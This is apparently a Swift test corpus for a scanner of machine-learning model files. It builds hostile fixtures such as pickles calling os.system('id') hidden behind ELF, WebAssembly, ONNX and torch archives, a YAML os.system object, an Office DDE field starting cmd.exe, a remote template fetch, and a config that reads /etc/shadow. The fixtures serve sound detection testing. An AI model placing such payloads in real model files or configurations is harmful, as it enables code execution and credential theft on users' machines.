import Findings
import TestSupport

// Hostile files: texts in other encodings, and bytes behind the end of a format.
extension Corpus {
  static let hidden: [HostileFile] = encodings + tails + office + torchTars + others

  /// A text in two or four bytes a unit, with its mark or without.
  private static func wide(_ text: String, _ width: Int, big: Bool, mark: Bool) -> [UInt8] {
    let text = (mark ? "\u{feff}" : "") + text
    let units = width == 2 ? text.utf16.map(UInt32.init) : text.unicodeScalars.map(\.value)
    return units.flatMap { unit in
      let bytes = (0..<width).map { UInt8(truncatingIfNeeded: unit >> (8 * UInt32($0))) }
      return big ? bytes.reversed() : bytes
    }
  }

  private static func row(
    _ name: String, _ rule: Rule, _ file: String, _ bytes: @escaping @Sendable () -> [UInt8],
    clean: (@Sendable () -> [UInt8])? = nil
  ) -> HostileFile {
    HostileFile(name, rule, rule.severity, in: file, bytes: bytes, clean: clean)
  }

  private static let autoMap = #"{"auto_map": {"AutoModel": "evil/x--modeling.M"}, "a": "b"}"#

  private static let encodings: [HostileFile] = [
    row("JSON in UTF-16 with its mark", .repositoryCode, "config.json") {
      wide(autoMap, 2, big: false, mark: true)
    } clean: {
      wide(#"{"model_type": "bert", "a": 1}"#, 2, big: false, mark: true)
    },
    row("JSON in UTF-16 without a mark", .repositoryCode, "config.json") {
      wide(autoMap, 2, big: true, mark: false)
    },
    row("JSON in UTF-32 without a mark", .repositoryCode, "config.json") {
      wide(autoMap, 4, big: false, mark: false)
    },
    row("YAML in UTF-16", .yamlObject, "config.yaml") {
      wide("a: !!python/object/apply:os.system ['id']\n", 2, big: false, mark: true)
    },
    row("Python in UTF-32", .pythonAtLoad, "a.py") {
      wide("import os\nos.system('id')\n", 4, big: true, mark: true)
    },
    row("a template in UTF-16", .templateEscape, "chat_template.jinja") {
      wide("{{ x.__class__ }} {{ messages }}", 2, big: false, mark: false)
    },
  ]

  /// The header of an ELF program without segments and sections.
  private static let program: [UInt8] =
    [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1] + [UInt8](repeating: 0, count: 57)

  private static let tails: [HostileFile] = [
    row("a pickle behind a program", .trailingFile, "a.so") {
      program + PickleBuilder.call("os", "system", "id")
    },
    row("an old pickle behind a program", .dangerousImport, "b.so") {
      program + Array("cos\nsystem\n(S'id'\ntR.".utf8)
    },
    row("a pickle behind WebAssembly", .trailingFile, "a.wasm") {
      Array("\0asm".utf8) + [1, 0, 0, 0, 0, 1, 0] + PickleBuilder.call("os", "system", "id")
    },
    row("a pickle behind one that breaks", .unaccountedBytes, "a.pkl") {
      PickleBuilder().list().raw([0xff]).bytes + PickleBuilder.call("os", "system", "id")
    },
    row("an unknown field of ONNX that is a pickle", .strayBytes, "a.onnx") {
      var model = ONNXBuilder()
      model.more = model.more.bytes(99, PickleBuilder.call("os", "system", "id"))
      return model.bytes
    },
  ]

  private static func part(_ text: String) -> @Sendable () -> [UInt8] {
    { Array(("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + text).utf8) }
  }

  private static let office: [HostileFile] = [
    row(
      "a template that a document fetches", .activeDocument, "settings.xml.rels",
      part(
        "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/attachedTemplate\" "
          + "Target=\"http://x.y/a.dotm\" TargetMode=\"External\"/></Relationships>"),
      clean: part(
        "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/hyperlink\" "
          + "Target=\"http://x.y/\" TargetMode=\"External\"/></Relationships>")),
    row(
      "a field that starts a program", .activeDocument, "document.xml",
      part(
        "<w:p xmlns:w=\"w\"><w:r><w:instrText>DDE</w:instrText></w:r>"
          + "<w:r><w:instrText>AUTO c:\\\\x\\\\cmd.exe</w:instrText></w:r></w:p>"),
      clean: part(
        "<w:p xmlns:w=\"w\"><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>")),
    row(
      "a sheet of macros", .activeDocument, "sheet1.xml",
      part("<xm:macrosheet xmlns:xm=\"m\"><sheetData/></xm:macrosheet>")),
    row("macros in a document", .activeDocument, "a.docm") {
      let name: [UInt8] = "_VBA_PROJECT".utf8.flatMap { [$0, 0] }
      let project: [UInt8] =
        [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1] + [UInt8](repeating: 0, count: 504) + name
      return ZipBuilder.one("word/vbaProject.bin", project)
    },
    row("rich text with an object", .activeDocument, "a.rtf") {
      Array("{\\rtf1\\ansi {\\object\\objemb{\\*\\objdata 01050000}}}".utf8)
    } clean: {
      Array("{\\rtf1\\ansi Plain text.\\par}".utf8)
    },
  ]
}

// torch 0.1's archives.
extension Corpus {
  private static let hostilePickle = PickleBuilder.call("os", "system", "id")

  /// An archive with one storage of two floats and one tensor of two.
  private static func torchTar(
    storages: [UInt8]? = nil, tensors: [UInt8]? = nil, object: [UInt8]? = nil,
    system: [UInt8]? = nil
  ) -> [UInt8] {
    var tar = TarBuilder()
    tar.add("sys_info", system ?? PickleBuilder().dict().stop())
    tar.add("pickle", object ?? PickleBuilder().text("8").persistentID().stop())
    tar.add("tensors", tensors ?? self.tensors(storage: 7, size: 2))
    tar.add("storages", storages ?? self.storages([0, 0, 0x80, 0x3f, 0, 0, 0, 0x40]))
    return tar.bytes
  }

  private static func storages(_ data: [UInt8], count: UInt64 = 2) -> [UInt8] {
    PickleBuilder().integer(1).stop()
      + PickleBuilder().integer(7).text("cpu").global("torch", "FloatStorage").tuple(of: 3).stop()
      + little(count, 8) + data + PickleBuilder().list().stop()
  }

  private static func tensors(storage: Int, size: UInt64) -> [UInt8] {
    PickleBuilder().integer(1).stop()
      + PickleBuilder().integer(8).integer(storage).global("torch", "FloatTensor").tuple(of: 3)
      .stop() + little(1, 8) + little(size, 8) + little(1, 8) + little(0, 8)
  }

  private static let torchTars: [HostileFile] = [
    row("torch's tar: the object calls", .dangerousImport, "a.pt") {
      torchTar(object: hostilePickle)
    } clean: {
      torchTar()
    },
    row("torch's tar: what describes the machine calls", .dangerousImport, "b.pt") {
      torchTar(system: hostilePickle)
    },
    row("torch's tar: the storages call", .dangerousImport, "c.pt") {
      torchTar(storages: hostilePickle)
    },
    row("torch's tar: a pickle after the storages", .dangerousImport, "d.pt") {
      torchTar(storages: storages([UInt8](repeating: 0, count: 8)) + hostilePickle)
    },
    row("torch's tar: the tensors call", .dangerousImport, "e.pt") {
      torchTar(tensors: PickleBuilder().integer(1).stop() + hostilePickle)
    },
    row("torch's tar: a storage that is a program", .storageIsProgram, "f.pt") {
      torchTar(storages: storages(program, count: 16))
    },
    row("torch's tar: a storage that lies about its size", .malformedPickle, "g.pt") {
      torchTar(storages: storages([0, 0, 0, 0], count: 1 << 40))
    },
    row("torch's tar: a tensor that leaves its storage", .strayReference, "h.pt") {
      torchTar(tensors: tensors(storage: 7, size: 3))
    },
    row("torch's tar: a reference to nothing", .strayReference, "i.pt") {
      torchTar(object: PickleBuilder().text("9").persistentID().stop())
    },
  ]
}

// Configurations, scripts and models that are bounded alone.
extension Corpus {
  private static func text(
    _ name: String, _ rule: Rule, _ file: String, _ text: String, clean: String? = nil
  ) -> HostileFile {
    let twin: (@Sendable () -> [UInt8])?
    if let clean { twin = { Array(clean.utf8) } } else { twin = nil }
    return row(name, rule, file, { Array(text.utf8) }, clean: twin)
  }

  private static let others: [HostileFile] = [
    text(
      "a vocabulary that is the host's file", .configurationReach, "tokenizer_config.json",
      #"{"vocab_file": "/etc/shadow", "model_max_length": 512}"#,
      clean: #"{"vocab_file": "vocab.txt", "model_max_length": 512}"#),
    text(
      "a tokenizer on a server", .configurationReach, "tokenizer_config.json",
      #"{"tokenizer_file": "\\\\10.0.0.1\\share\\t.json", "model_max_length": 512}"#),
    text(
      "a server behind a mark", .configurationReach, "tokenizer_config.json",
      "{\"tokenizer_file\": \"http://\u{301}@x.y/t.json\", \"model_max_length\": 512}"),
    text(
      "an environment that installs from a server", .configurationReach, "conda.yaml",
      "name: a\ndependencies:\n- python=3.11\n- pip:\n  - --extra-index-url http://x.y/simple\n",
      clean: "name: a\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==2.9\n"),
    text(
      "Python that runs a program in a function", .pythonRunsPrograms, "tool.py",
      "import os\n\ndef load(path):\n  return os.system('cp ' + path)\n"),
    text(
      "Python that makes code in a method", .pythonRunsPrograms, "net.py",
      "class Net:\n  def forward(self, x):\n    return eval(x)\n"),
    row("Caffe: a layer in Python", .modelPlugin, "a.caffemodel") {
      ProtobufBuilder().text(1, "net").message(
        100,
        ProtobufBuilder().text(1, "conv").text(2, "Python")
          .message(130, ProtobufBuilder().text(1, "os").text(2, "system"))
      ).bytes
    },
    text(
      "Caffe: a layer in Python in a text", .modelPlugin, "deploy.prototxt",
      "name: \"a\"\nlayer {\n  type: \"Python\"\n  python_param { module: \"os\" layer: \"x\" }\n}\n",
      clean: "name: \"a\"\nlayer {\n  type: \"ReLU\"\n  bottom: \"x\"\n}\n"),
    row("Torch 7: compiled Lua", .serialisedObjects, "a.t7") {
      [4, 0, 0, 0, 1, 0, 0, 0, 3, 0, 0, 0] + Array("V 1".utf8) + [2, 0, 0, 0] + Array("nn".utf8)
        + [8, 0, 0, 0, 2, 0, 0, 0, 9, 0, 0, 0] + Array("\u{1b}LuaR".utf8)
    },
    row("Torch 7: a tensor", .boundedOnly, "b.t7") {
      [4, 0, 0, 0, 1, 0, 0, 0, 3, 0, 0, 0] + Array("V 1".utf8) + [17, 0, 0, 0]
        + Array("torch.FloatTensor".utf8) + [1, 0, 0, 0]
    },
    row("RKNN", .boundedOnly, "a.rknn") {
      Array("RKNN".utf8) + [UInt8](repeating: 0, count: 60)
    },
  ]
}
